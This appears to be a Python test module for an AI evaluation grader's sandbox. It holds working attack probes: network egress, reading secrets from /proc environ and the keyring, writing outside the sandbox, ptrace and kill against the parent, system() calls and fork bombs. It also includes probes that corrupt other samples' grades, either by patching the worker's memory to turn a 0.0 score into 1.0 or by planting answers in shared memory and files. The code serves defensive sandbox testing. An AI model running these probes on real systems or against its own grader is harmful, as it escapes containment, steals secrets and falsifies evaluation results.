"""Attacks on the machine that grades: each one a piece of Python an attacker would put in a grader or a program.

Each probe defines ``attack()``, which returns when the attack worked and raises (with what stopped it) when it
did not; :func:`python_grader_source` and :func:`program_source` wrap it as a python grader (``grade`` returns
1.0 when the attack worked) or as a program for the ``code`` grader (prints 1 when it worked, the expected
output of its one test case). Where Python's own API is refused, the probe tries again through ctypes, as an
attacker would. Every probe is bounded (at most 200 processes, 600 MB of output, sleeps of seconds) so that
it is safe to run against a grader that does not contain it; the real fork bomb is kept apart
(:data:`FORK_BOMBS`) and run only inside a sandbox that is shown to cap processes.

``CTX`` is filled in by the test: ports of loopback servers, files and paths outside the sandbox, the secret
the host holds, the marker (process name) that the probe's children carry so the host can find survivors.
"""

from __future__ import annotations

import json

PRELUDE = '''
import ctypes, json, os, signal, socket, struct, sys, time
CTX = json.loads(%r)
VICTIM = __VICTIM_PID__
libc = ctypes.CDLL(None, use_errno=True)
libc.malloc.restype = ctypes.c_void_p


def mark():
    """Name this process with the probe's marker (PR_SET_NAME), so the host can find it if it survives."""
    libc.prctl(15, ctypes.c_char_p(CTX["marker"].encode()), 0, 0, 0)


def c_error(what):
    err = ctypes.get_errno()
    return OSError(err, f"{what}: {os.strerror(err)}")


def sockaddr(port):
    return struct.pack("=H", 2) + struct.pack("!H", port) + bytes([127, 0, 0, 1]) + bytes(8)


def c_socket(kind, proto=0):
    fd = libc.socket(2, kind, proto)
    if fd < 0:
        raise c_error("socket()")
    timeout = struct.pack("ll", 1, 0)
    libc.setsockopt(fd, 1, 20, timeout, len(timeout))  # SO_RCVTIMEO: 1 s
    return fd


def udp_ask(port, payload):
    """Send a datagram to a loopback port and return the reply: Python's socket first, then libc's."""
    errors = []
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(1)
        s.sendto(payload, ("127.0.0.1", port))
        return s.recv(512)
    except Exception as exc:
        errors.append(repr(exc))
    try:
        fd, addr = c_socket(2), sockaddr(port)
        libc.sendto(fd, payload, len(payload), 0, addr, len(addr))
        buf = ctypes.create_string_buffer(512)
        n = libc.recv(fd, buf, 512, 0)
        if n > 0:
            return buf.raw[:n]
        errors.append(repr(c_error("recv()")))
    except Exception as exc:
        errors.append(repr(exc))
    raise ConnectionError("; ".join(errors))


def start_children(fork, n=200, sleep=3.0):
    """Start up to n children that sleep, then exit; how many started."""
    started = 0
    for _ in range(n):
        try:
            pid = fork()
        except OSError:
            break
        if pid < 0:
            break
        if pid == 0:
            mark()
            time.sleep(sleep)
            os._exit(0)
        started += 1
    return started
'''

PROBES = {
    "tcp": '''
def attack():
    try:
        socket.create_connection(("127.0.0.1", CTX["tcp_port"]), timeout=2).sendall(b"leak")
        return
    except Exception as exc:
        first = exc
    fd, addr = c_socket(1), sockaddr(CTX["tcp_port"])
    if libc.connect(fd, addr, len(addr)) != 0:
        raise c_error(f"connect() after {first!r}")
''',
    "udp": '''
def attack():
    if udp_ask(CTX["udp_port"], b"leak") != b"echo:leak":
        raise ConnectionError("no echo")
''',
    "raw_socket": '''
def attack():
    try:
        socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
        return
    except Exception as exc:
        first = exc
    if libc.socket(2, 3, 1) < 0:
        raise c_error(f"raw socket() after {first!r}")
''',
    "dns": '''
def attack():
    errors = []
    try:
        socket.getaddrinfo("localhost", 80)
        return
    except Exception as exc:
        errors.append(repr(exc))
    query = struct.pack("!HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + b"\\x07example\\x03com\\x00" + struct.pack("!HH", 1, 1)
    if udp_ask(CTX["dns_port"], query)[:2] != b"\\x12\\x34":
        raise ConnectionError("no DNS answer; " + "; ".join(errors))
''',
    "read_outside": '''
def attack():
    with open(CTX["secret_file"]) as f:
        if CTX["secret"] not in f.read():
            raise ValueError("read something else")
''',
    "write_outside": '''
def attack():
    errors = []
    for path in CTX["write_targets"]:
        try:
            with open(path, "w") as f:
                f.write("pwned")
            return
        except OSError as exc:
            errors.append(repr(exc))
    raise PermissionError("; ".join(errors))
''',
    "proc_environ": '''
def attack():
    for pid in {os.getppid(), VICTIM}:
        try:
            with open(f"/proc/{pid}/environ", "rb") as f:
                if CTX["secret"].encode() in f.read():
                    return
        except OSError:
            pass
    raise PermissionError(f"no environment with the key among /proc/{os.getppid()}, /proc/{VICTIM}")
''',
    "other_processes": '''
def attack():
    try:
        with open(f"/proc/{VICTIM}/cmdline", "rb") as f:
            if b"victim" in f.read():
                return
    except OSError as exc:
        first = exc
    else:
        first = "another process"
    seen = [p for p in os.listdir("/proc") if p.isdigit()]
    raise PermissionError(f"the host process is not visible ({first!r}); {len(seen)} processes in view")
''',
    "fork_plain": '''
def attack():
    started = start_children(os.fork)
    if started < 200:
        raise BlockingIOError(f"only {started} of 200 processes started")
''',
    "fork_ctypes": '''
def attack():
    started = start_children(libc.fork)
    if started < 200:
        raise BlockingIOError(f"only {started} of 200 processes started")
''',
    "setsid_daemon": '''
def attack():
    pid = libc.fork()
    if pid < 0:
        raise c_error("fork()")
    if pid == 0:
        libc.setsid()
        mark()
        time.sleep(20)
        os._exit(0)
    time.sleep(0.3)
''',
    "alloc_10gb": '''
def attack():
    try:
        block = bytearray(10 * 1024 ** 3)
        return
    except MemoryError as exc:
        first = exc
    if not libc.malloc(ctypes.c_size_t(10 * 1024 ** 3)):
        raise MemoryError(f"10 GB refused ({first!r}); malloc returned NULL")
''',
    "infinite_loop": '''
def attack():
    while True:
        pass
''',
    "huge_output": '''
def attack():
    chunk = b"x" * (1 << 20)
    for _ in range(300):
        os.write(1, chunk)
        os.write(2, chunk)
''',
    "kill_parent": '''
def attack():
    hit, errors = [], []
    targets = {VICTIM} | ({os.getppid()} if os.getppid() > 1 else set())
    for pid in targets:
        try:
            os.kill(pid, signal.SIGUSR1)
            hit.append(pid)
        except OSError as exc:
            errors.append(repr(exc))
            if libc.kill(pid, 10) == 0:
                hit.append(pid)
    time.sleep(0.3)
    if not hit:
        raise PermissionError("; ".join(errors))
''',
    "keyring": '''
def attack():
    libc.syscall.restype = ctypes.c_long
    request_key, keyctl = {"x86_64": (249, 250), "aarch64": (218, 219)}[os.uname().machine]
    key = libc.syscall(ctypes.c_long(request_key), b"user", CTX["key_description"].encode(), None, ctypes.c_long(0))
    if key < 0:
        raise c_error("request_key() in the session keyring")
    buf = ctypes.create_string_buffer(4096)
    n = libc.syscall(ctypes.c_long(keyctl), ctypes.c_long(11), ctypes.c_long(key), buf, ctypes.c_long(4096))
    if n <= 0 or CTX["secret"].encode() not in buf.raw[:n]:
        raise c_error("keyctl(KEYCTL_READ)")
''',
    "ptrace_parent": '''
def attack():
    libc.ptrace.restype = ctypes.c_long
    target = os.getppid()
    if libc.ptrace(ctypes.c_long(16), ctypes.c_long(target), None, None) != 0:  # PTRACE_ATTACH
        raise c_error(f"ptrace(PTRACE_ATTACH, {target})")
    time.sleep(0.1)
    libc.ptrace(ctypes.c_long(17), ctypes.c_long(target), None, None)  # PTRACE_DETACH
''',
    "ctypes_system": '''
def attack():
    target = CTX["system_target"]
    status = libc.system(f"echo pwned > {target}".encode())
    if status != 0 or not os.path.exists(target):
        raise PermissionError(f"system() returned {status}; {target} not written")
''',
}

# Unbounded: every process forks until the kernel refuses. Run only where the sandbox caps processes.
FORK_BOMBS = {
    "fork_bomb_plain": '''
def attack():
    mark()
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
''',
    "fork_bomb_ctypes": '''
def attack():
    mark()
    while True:
        if libc.fork() < 0:
            time.sleep(0.01)
''',
}

# ---- attacks on the samples graded after the attacker's --------------------------------------------------
# A python grader that runs the completion (as graders of programs do) and pays 0, or 1 when the program left the
# reference answer in an answer file. The attacker's completion comes first; after it, completions that answer
# nothing themselves (LATER) must score 0: one sample's grade must not decide, nor reach, another's.
ANSWER_FILES = '[os.path.join(os.environ.get("TMPDIR", "/tmp"), "answer.txt"), os.path.expanduser("~/answer.txt"), ' \
               '"answer.txt", "/tmp/answer.txt", "/dev/shm/answer.txt", "/var/tmp/answer.txt"]'
RUNS_COMPLETIONS = f'''
import os


def grade(sample, item):
    try:
        exec(sample["output_text"], {{}})
    except Exception:
        pass
    for path in {ANSWER_FILES}:
        try:
            with open(path) as f:
                if f.read().strip() == item["reference_answer"]:
                    return 1.0
        except OSError:
            pass
    return 0.0
'''
REFERENCE_ANSWER = "47"
SHM_KEY, MQ_NAME = 0x4B17, b"/kitae-probe-answer"

# A later completion: answers nothing itself, but copies an answer an earlier one left (in a file, SysV shared
# memory or a POSIX message queue) to where this grade reads it
LATER = f'''
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
found = None
for path in {ANSWER_FILES}:
    try:
        found = found or open(path).read().strip()
    except OSError:
        pass
shmid = libc.shmget({SHM_KEY}, 4096, 0)
if shmid >= 0:
    addr = libc.shmat(shmid, None, 0)
    if addr not in (None, ctypes.c_void_p(-1).value):
        found = found or ctypes.string_at(addr, 2).decode()
if hasattr(libc, "mq_open"):
    mq = libc.mq_open({MQ_NAME!r}, os.O_RDONLY | os.O_NONBLOCK)
    buf = ctypes.create_string_buffer(8192)
    if mq >= 0 and libc.mq_receive(mq, buf, 8192, None) > 0:
        found = found or buf.value.decode()
if found:
    with open(os.path.join(os.environ.get("TMPDIR", "/tmp"), "answer.txt"), "w") as f:
        f.write(found)
'''

LATER_SAMPLE_PROBES = {
    # the grade runs in a child of the worker: write 1.0 over the 0.0 that grade() returns, in the worker's memory
    # (every later grade is forked from it), then in this process's own memory
    "patch_worker_memory": '''
import os, struct, sys
grade_code = sys._getframe(1).f_code
zero = next(c for c in grade_code.co_consts if type(c) is float and c == 0.0)
errors = []
for pid in (os.getppid(), "self"):
    try:
        fd = os.open(f"/proc/{pid}/mem", os.O_RDWR)
        os.pwrite(fd, struct.pack("d", 1.0), id(zero) + 16)  # PyFloatObject: refcount, type, then the double
        os.close(fd)
    except OSError as exc:
        errors.append(repr(exc))
''',
    # the answer in every file a later grade might read
    "plant_answer_files": f'''
import os
for path in {ANSWER_FILES}:
    try:
        with open(path, "w") as f:
            f.write({REFERENCE_ANSWER!r})
    except OSError:
        pass
''',
    # the answer in SysV shared memory, which outlives its process unless removed
    "plant_answer_sysv_shm": f'''
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
shmid = libc.shmget({SHM_KEY}, 4096, 0o1666)  # IPC_CREAT | 0666
if shmid < 0:
    raise OSError(ctypes.get_errno(), "shmget")
addr = libc.shmat(shmid, None, 0)
ctypes.memmove(addr, {REFERENCE_ANSWER.encode()!r}, 2)
libc.shmdt(ctypes.c_void_p(addr))
''',
    # the answer in a POSIX message queue, which outlives its process unless unlinked
    "plant_answer_mqueue": f'''
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
mq = libc.mq_open({MQ_NAME!r}, os.O_WRONLY | os.O_CREAT, 0o666, None)
if mq < 0 or libc.mq_send(mq, {REFERENCE_ANSWER.encode()!r}, 2, 0) != 0:
    raise OSError(ctypes.get_errno(), "mq_open/mq_send")
''',
}

# Attacks whose success shows only on the host afterwards (a surviving process): the grade cannot tell.
JUDGED_BY_HOST = {"setsid_daemon"}


def python_grader_source(name: str, ctx: dict) -> str:
    body = {**PROBES, **FORK_BOMBS}[name]
    return PRELUDE % json.dumps(ctx) + body + "\n\ndef grade(sample, item):\n    attack()\n    return 1.0\n"


def program_source(name: str, ctx: dict) -> str:
    body = {**PROBES, **FORK_BOMBS}[name]
    return PRELUDE % json.dumps(ctx) + body + "\n\nattack()\nprint(1)\n"
